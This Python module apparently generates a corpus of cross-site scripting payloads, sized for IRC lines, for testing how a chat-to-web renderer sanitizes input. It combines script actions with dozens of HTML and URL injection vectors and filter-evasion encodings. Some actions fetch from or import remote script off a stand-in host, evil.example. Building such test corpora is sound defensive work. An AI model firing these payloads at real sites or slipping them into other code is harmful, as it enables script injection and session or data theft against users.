"""What people have sent to pages to have them run it, in many forms."""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

#: What is to be run: it would leave a mark, ask something, or call somebody else.
DEEDS = (
    "window.__pwned=1", "alert(1)", "fetch('//evil.example/')", "new Image().src='//evil.example/x'",
    "self['__pw'+'ned']=1", "confirm`1`", "import('//evil.example/x.js')",
)  # fmt: skip
#: Where it stands: one a line, with @ for what is to be run.
VECTORS = r"""
<script>@</script>
<img src=x onerror=@>
<svg/onload=@>
<svg><script>@</script></svg>
"><script>@</script>
'-@-'
</p></div></article><script>@</script>
<iframe srcdoc='<script>@</script>'></iframe>
<a href="javascript:@">x</a>
javascript:@
<details open ontoggle=@>
<body onload=@>
<input autofocus onfocus=@>
<math><mtext></math><img src=x onerror=@>
<style>*{background:url(javascript:@)}</style>
{{constructor.constructor('@')()}}
${@}
<base href=//evil.example/><script>@</script>
<meta http-equiv=refresh content="0;url=javascript:@">
<object data="javascript:@"></object>
<form action="javascript:@"><button autofocus>
<template><script>@</script></template>
<!--<img src="--><img src=x onerror=@>
data:text/html,<script>@</script>
http://x.example/" onmouseover="@
http://x.example/' autofocus onfocus='@
&lt;script&gt;@&lt;/script&gt;
\u003cscript\u003e@
<noscript><p title="</noscript><img src=x onerror=@>">
<video><source onerror=@></video>
[x](javascript:@)
https://evil.example/?<script>@</script>
vbscript:@
<x contenteditable onblur=@>
`</code><script>@</script>`
<link rel=stylesheet href=//evil.example/x onload=@>
__proto__ constructor @
<marquee onstart=@>
<select autofocus onfocus=@>
<isindex type=image src=1 onerror=@>
""".strip().split("\n")
#: How it is dressed.
DRESSES: tuple[Callable[[str], str], ...] = (
    str,
    str.upper,
    str.swapcase,
    quote,
    lambda text: f"\u202e{text}",
    lambda text: f"\x03{text}\x0f",
    lambda text: text.replace("script", "scr\x02ipt"),
    lambda text: text.replace("<", "<\u200b"),
    lambda text: text.replace(" ", "\t"),
    lambda text: text.replace("<", "\uff1c"),
    lambda text: text * 2,
    lambda text: f"\x01ACTION {text}\x01",
    lambda text: f"\x01ACTION sent a file: {text}.txt (5 B) http://127.0.0.1/files/x\x01",
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace("=", " = "),
    lambda text: f"ann: {text}",
    lambda text: text.replace("javascript:", "java\x1fscript:"),
    lambda text: f"http://{text}",
    lambda text: f"`{text}`",
    lambda text: f"{text} https://ok.example/{quote(text)}",
    lambda text: text.replace("/", "//"),
    lambda text: f"]]>{text}",
    lambda text: f":tada: {text} 🎉",
    lambda text: text[::-1],
)


def payloads(count: int, seed: int = 20) -> list[str]:
    """So many different ones, each short enough for a line of IRC."""
    chosen = list(dict.fromkeys(text for text in _all() if len(text.encode()) <= 380))
    random.Random(seed).shuffle(chosen)
    assert len(chosen) >= count, len(chosen)
    return chosen[:count]


def _all() -> Iterator[str]:
    for dress in DRESSES:
        for vector in VECTORS:
            for deed in DEEDS:
                yield dress(vector.replace("@", deed))
